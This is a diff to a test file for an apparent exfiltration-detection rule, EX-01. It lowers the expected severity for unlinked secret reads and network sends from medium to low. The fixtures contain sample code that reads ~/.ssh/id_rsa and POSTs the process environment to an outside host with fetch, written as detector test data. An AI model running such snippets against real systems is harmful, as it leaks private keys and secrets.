@@ -39,20 +39,20 @@ test.each([
   expect(worst(running('a.py', joined('import os, requests', read, sent)), 'EX-01')).toBe('critical');
 });
 
-test('a read and a send that nothing joins are for a reader to judge', () => {
+test('a read and a send that nothing joins are low', () => {
   const program = joined(
     'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\ncheck(key)',
     send('report'),
   );
-  expect(worst(running('a.py', program), 'EX-01')).toBe('medium');
+  expect(worst(running('a.py', program), 'EX-01')).toBe('low');
 });
 
-test('a function that gives nothing of what it reads is for a reader to judge', () => {
+test('a function that gives nothing of what it reads is low', () => {
   const own = (last: string) =>
     `def own():\n    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    ${last}`;
   const program = (last: string) => joined('import os, requests', own(last), send('own()'));
   expect(worst(running('a.py', program('return len(key) > 40')), 'EX-01')).toBe('critical');
-  expect(worst(running('a.py', program('check(key)')), 'EX-01')).toBe('medium');
+  expect(worst(running('a.py', program('check(key)')), 'EX-01')).toBe('low');
 });
 
 test('a program of many lines and names takes bounded time', () => {
@@ -68,6 +68,6 @@ test('what a child process prints is not the environment that it is started with
       'const result = spawnSync("make", ["all"], {\n  cwd: folder,\n  env: { ...own, LEVEL: "2" },\n});',
       `await fetch("https://in.farrowmere.io/v1", { method: "POST", body: ${body} });`,
     );
-  expect(worst(running('a.mjs', program('result.stdout')), 'EX-01')).toBe('medium');
+  expect(worst(running('a.mjs', program('result.stdout')), 'EX-01')).toBe('low');
   expect(worst(running('a.mjs', program('JSON.stringify(own)')), 'EX-01')).toBe('critical');
 });
